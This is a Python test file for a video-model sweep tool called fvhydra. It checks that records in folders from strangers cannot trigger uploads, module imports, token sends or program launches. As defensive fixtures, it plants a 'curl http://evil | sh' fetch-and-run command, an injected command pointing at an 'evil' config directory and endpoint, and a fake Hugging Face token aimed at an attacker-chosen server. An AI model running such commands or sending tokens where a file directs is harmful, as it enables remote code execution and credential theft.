# SPDX-License-Identifier: Apache-2.0
"""Folders that strangers send are data: what is published, imported and sent a token is decided by this command."""

from __future__ import annotations

import json
import shutil
import socket
from pathlib import Path
from typing import Any

import pytest

from fvhydra import worker
from tests.conftest import Cli


@pytest.fixture(autouse=True)
def _here(monkeypatch: pytest.MonkeyPatch) -> None:
    """A worker in this process has no stderr of its own."""
    monkeypatch.setattr("faulthandler.enable", lambda: None)


SWEEP = ("-m", "op=seed_ssim", "engine=mock", "model=wan22_ti2v_5b", "prompt=a cat", "seed=1")


def _edit(path: Path, **changes: Any) -> None:
    path.write_text(json.dumps(json.loads(path.read_text()) | changes))


def _stranger(command: Cli, tmp_path: Path) -> Path:
    """A sweep with one prepared change, whose records say all that was never said here."""
    command(*SWEEP, "sweep=theirs")
    sweep = tmp_path / "multirun" / "seed_ssim" / "theirs"
    record = json.loads((sweep / "0" / "job.json").read_text())
    record["config"]["op"]["confirm"] = ["upload"]
    (sweep / "0" / "job.json").write_text(json.dumps(record))
    _modal(sweep)
    return sweep


def _modal(sweep: Path) -> None:
    """Make a sweep one whose jobs ran on Modal."""
    record = json.loads((sweep / "0" / "job.json").read_text())
    target = "fvhydra.launch.modal.launcher.ModalLauncher"
    record["config"]["launcher"] = {"_target_": target, "name": "modal", "image": {"registry": "none"}}
    record["types"]["launcher"] = "fvhydra.config.launcher.ModalLauncherConfig"
    (sweep / "0" / "job.json").write_text(json.dumps(record))


def test_what_a_folder_says_confirms_nothing(command: Cli, tmp_path: Path) -> None:
    sweep = _stranger(command, tmp_path)
    record = json.loads((sweep / "0" / "result.json").read_text())
    record["change"]["publish"]["command"] = record["next_commands"] = "curl http://evil | sh"
    record["next_commands"] = [{"purpose": "To publish", "command": "curl http://evil | sh"}]
    (sweep / "0" / "result.json").write_text(json.dumps(record))
    attached = command("op=attach", f"run={sweep}")
    assert "evil" not in attached.text
    assert attached.code == 0 and "Nothing was written to" in attached.out, attached.text
    for kind, words, says in (
        ("draft", ("op=attach", "run=copy"), "tampered"),
        ("draft", (*SWEEP, "sweep=./copy", "launcher=pool"), "tampered"),
        ("restore", ("op=attach", "run=copy", "op.confirm=upload"), "which no op=seed_ssim makes"),
    ):
        shutil.rmtree(tmp_path / "copy", ignore_errors=True)
        shutil.copytree(sweep, tmp_path / "copy")
        _edit(tmp_path / "copy" / "0" / "change.json", kind=kind)
        refused = command(*words)
        assert refused.code == 2 and says in refused.text, refused.text
        assert not (tmp_path / "store").exists()
    assert "Published" in command("op=attach", f"run={sweep}", "op.confirm=upload").out


def _strange_job(sweep: Path, **config: Any) -> Path:
    """The sweep's first job, with other parts of its configuration."""
    path = sweep / "0" / "job.json"
    record = json.loads(path.read_text())
    for group, changes in config.items():
        record["config"][group] |= changes
    path.write_text(json.dumps(record))
    return path


@pytest.mark.parametrize(
    ("group", "types"),
    [("engine", {}), ("store", {}), ("op", {}), ("launcher", {}), ("model", {"model": "strange.Thing"})],
)
def test_no_record_chooses_what_is_imported(
    command: Cli,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    group: str,
    types: dict[str, str],
) -> None:
    (tmp_path / "strange.py").write_text("import pathlib\npathlib.Path('ran').touch()\n")
    sweep = _stranger(command, tmp_path)
    path = _strange_job(sweep, **{} if types else {group: {"_target_": "strange.Thing"}})
    record = json.loads(path.read_text())
    path.write_text(json.dumps(record | {"types": record["types"] | types}))
    monkeypatch.syspath_prepend(tmp_path)
    if group != "engine":  # nobody attaching needs an engine
        attached = command("op=attach", f"run={sweep}", "op.confirm=upload")
        assert attached.code == 2 and "strange.Thing was named by a file" in attached.text, attached.text
    (sweep / "0" / "result.json").unlink()
    code = worker.main([str(sweep / "0")])
    if group != "launcher":  # no worker needs a launcher
        said = capsys.readouterr()
        assert code == 2 and "strange.Thing was named by a file" in said.out + said.err, said
    assert not (tmp_path / "ran").exists()


def test_a_worker_sends_no_token_where_a_record_says(
    command: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    sweep = _stranger(command, tmp_path)
    with socket.create_server(("127.0.0.1", 0)) as server:
        address = f"http://127.0.0.1:{server.getsockname()[1]}"
        hub = {"_target_": "fvhydra.stores.hub.HubStore", "name": "hub", "repo_id": "org/refs", "endpoint": address}
        path = _strange_job(sweep)
        record = json.loads(path.read_text())
        record["config"]["store"] = hub
        record["types"]["store"] = "fvhydra.config.store.HubStoreConfig"
        path.write_text(json.dumps(record))
        (sweep / "0" / "result.json").unlink()
        server.setblocking(False)
        monkeypatch.setenv("HF_TOKEN", "hf_planted")
        assert worker.main([str(sweep / "0")]) == 2
        said = capsys.readouterr()
        with pytest.raises(BlockingIOError):  # nobody came
            server.accept()
    assert address in said.err and "https://huggingface.co" in said.err, said


def test_what_is_suggested_repeats_this_command_and_no_record(command: Cli, tmp_path: Path) -> None:
    command(*SWEEP[1:])
    run = (tmp_path / "outputs" / "latest").resolve()
    evil = ["fvhydra", "op=seed_ssim", "--config-dir", "/evil", "store.endpoint=http://evil", "store=evil"]
    _edit(run / "manifest.json", command=evil)
    shown = command("op=publish", f"run={run}")
    assert shown.code == 0 and "To publish" in shown.out and "evil" not in shown.text, shown.text
    shown = command("op=publish", f"run={run}", f"store.path={tmp_path / 'store'}")
    assert f"store.path={tmp_path / 'store'}" in shown.out.split("To publish")[1], shown.text


def test_a_draft_is_uploaded_only_where_this_command_says_so(command: Cli, tmp_path: Path) -> None:
    words = ("-m", "op=check_ssim", *SWEEP[2:], "sweep=./ci")
    assert command(*words, "op.bootstrap=true", "store.path=elsewhere").code == 3
    shutil.rmtree(tmp_path / "elsewhere")
    record = tmp_path / "ci" / "0" / "change.json"
    _edit(record, applied=None)
    _modal(tmp_path / "ci")
    assert "Nothing was written" in command("op=attach", "run=ci").out
    assert not (tmp_path / "elsewhere").exists()
    assert "Published" in command("op=attach", "run=ci", "op.bootstrap=true").out
    assert list((tmp_path / "elsewhere" / "current").iterdir()) == [tmp_path / "elsewhere" / "current" / "drafts"]


def test_no_record_starts_a_program(
    command: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    program = tmp_path / "program"
    program.write_text(f"#!/bin/sh\ntouch {tmp_path / 'ran'}\n")
    program.chmod(0o755)
    sweep = _stranger(command, tmp_path)
    _strange_job(sweep, engine={"python": str(program)})
    (sweep / "0" / "result.json").unlink()
    assert worker.main([str(sweep / "0")]) == 2
    said = capsys.readouterr().err
    assert f"sets engine.python={program}, which only a command line or its environment may" in said
    assert not (tmp_path / "ran").exists()
    monkeypatch.setenv(*said.split()[-1].split("="))  # what it suggests to whom trusts it
    worker.main([str(sweep / "0")])
    assert (tmp_path / "ran").exists()


@pytest.mark.parametrize("words", [("prompt_file=none.txt",), ("prompt_index=8,9",), ("op=publish", "run=none")])
def test_a_sweep_none_of_whose_jobs_can_run_writes_nothing(command: Cli, tmp_path: Path, words: tuple[str]) -> None:
    before = sorted(tmp_path.rglob("*"))
    shown = command("-m", "op=generate", "engine=mock", "model=wan22_ti2v_5b", "seed=1,2", *words)
    assert shown.code == 2 and shown.err.startswith("error: "), shown.text
    assert sorted(tmp_path.rglob("*")) == before


def test_a_gpu_that_is_not_there_leaves_no_folder(command: Cli, tmp_path: Path) -> None:
    before = sorted(tmp_path.rglob("*"))
    for words in (("op=generate", "gpu=l40s"), ("op=check_ssim", "engine=fastvideo", "tier=default", "gpu=l40s")):
        shown = command(*words, "model=wan22_ti2v_5b")
        assert shown.code == 2 and ("GPU" in shown.text or "needs" in shown.text), shown.text
        assert "no_reference" not in shown.text and "seed_ssim" not in shown.text
    assert sorted(tmp_path.rglob("*")) == before


def test_a_worker_by_hand_prints_the_refusal_that_it_met(
    command: Cli, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sweep = _stranger(command, tmp_path)
    _strange_job(sweep, model={"artifact": "latent", "latent": None})
    (sweep / "0" / "result.json").unlink()
    before = sorted(path.name for path in (sweep / "0").iterdir())
    assert worker.main([str(sweep / "0")]) == 2
    assert "error: " in capsys.readouterr().err
    record = json.loads((sweep / "0" / "job.json").read_text())
    record["config"]["model"] |= {"artifact": "pixel"}
    record["config"] |= {"prompt": None, "prompt_file": "gone.txt"}
    (sweep / "0" / "job.json").write_text(json.dumps(record))
    assert worker.main([str(sweep / "0")]) == 2
    assert "There is no prompt file gone.txt" in capsys.readouterr().err
    assert sorted(path.name for path in (sweep / "0").iterdir()) == before


def test_an_odd_row_of_a_manifest_costs_itself_alone(command: Cli, tmp_path: Path) -> None:
    command(*SWEEP[1:])
    [clip] = (tmp_path / "outputs" / "latest" / "artifacts").rglob("*.mp4")
    rows = [{"id": "fine", "video": str(clip)}, {"id": "odd", "video": "a\0.mp4"}, {"id": "lone", "video": "\ud800"}]
    (tmp_path / "samples.jsonl").write_text("\n".join(map(json.dumps, rows)))
    scored = command("op=eval", "manifest=samples.jsonl", "metrics=temporal")
    assert scored.code == 0, scored.text
    lines = (tmp_path / "outputs" / "latest" / "scores.jsonl").read_text().splitlines()
    found = {row["sample"]: row for row in map(json.loads, lines)}
    assert found["fine"]["status"] == "ok"
    assert [found[name]["code"] for name in ("odd", "lone")] == ["unreadable"] * 2
    assert found["odd"]["message"].startswith("line 2: video 'a\\x00.mp4' is no path")
